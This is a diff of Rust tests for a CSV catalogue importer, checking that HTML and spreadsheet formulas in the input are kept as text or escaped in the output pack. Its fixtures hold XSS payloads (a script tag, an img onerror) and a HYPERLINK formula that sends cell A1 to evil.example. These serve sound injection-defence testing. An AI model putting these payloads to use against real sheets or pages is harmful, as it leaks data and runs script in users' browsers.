@@ -243,7 +243,7 @@ fn department_names_that_are_paths_are_read_as_text() {
 
 /// The wrapper the fixture puts around every text value (see html-everywhere.csv).
 fn html_wrapped(s: &str) -> String {
-    format!("<script>alert(\"{s}\")</script><img src=x onerror=alert(1)><b>{s}</b>")
+    format!("<b>{s}</b><script>alert(1)</script><img src=x onerror=alert(2)>")
 }
 
 #[test]
@@ -266,16 +266,18 @@ fn spreadsheet_formulas_in_every_text_field_are_kept_as_text() {
     expect_problems(&v, &[]);
     assert_eq!((v.exit, v.totals()), (0, (3, 3, 0)));
     let r = read_nasty("formulas-everywhere.csv");
-    assert_eq!(
-        r.records[0].name,
-        "=HYPERLINK(\"http://evil.example/?\"&A1,\"Grants management platform\")"
-    );
+    assert_eq!(r.records[0].name, "=Grants management platform");
+    assert_eq!(r.records[0].department, "=Dept of Formulas");
     let last = &r.records[2];
     assert_eq!(
         (last.department.as_str(), last.name.as_str(), last.description.as_str()),
         ("@SUM(1+1)", "-2+3", "=1+1")
     );
     assert_eq!(last.user_groups, ["=A1", "+A2"]);
+    assert_eq!(
+        last.owner.as_deref(),
+        Some("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")")
+    );
 }
 
 #[test]
@@ -592,10 +594,12 @@ fn run_neutralises_html_and_formulas_in_the_pack() {
     for (name, bytes) in &pack {
         let text = String::from_utf8_lossy(bytes);
         if name.ends_with(".html") || name.ends_with(".md") || name.ends_with(".svg") {
+            // Markdown escapes a tag's `<` with a backslash; HTML and SVG turn it into `&lt;`.
             let lower = text.to_lowercase();
-            assert!(!lower.contains("<script"), "{name} holds a script tag");
-            assert!(!lower.contains("<img src=x"), "{name} holds catalogue HTML");
-            assert!(!lower.contains("<b>grants"), "{name} holds catalogue HTML");
+            for tag in ["<script", "<img src=x", "<b>grants", "<i>of"] {
+                let raw = lower.match_indices(tag).any(|(i, _)| !lower[..i].ends_with('\\'));
+                assert!(!raw, "{name} holds catalogue HTML {tag:?} unescaped");
+            }
             escaped_html += text.matches("&lt;script&gt;").count() + text.matches("\\<script").count();
         }
         if name.ends_with(".csv") {
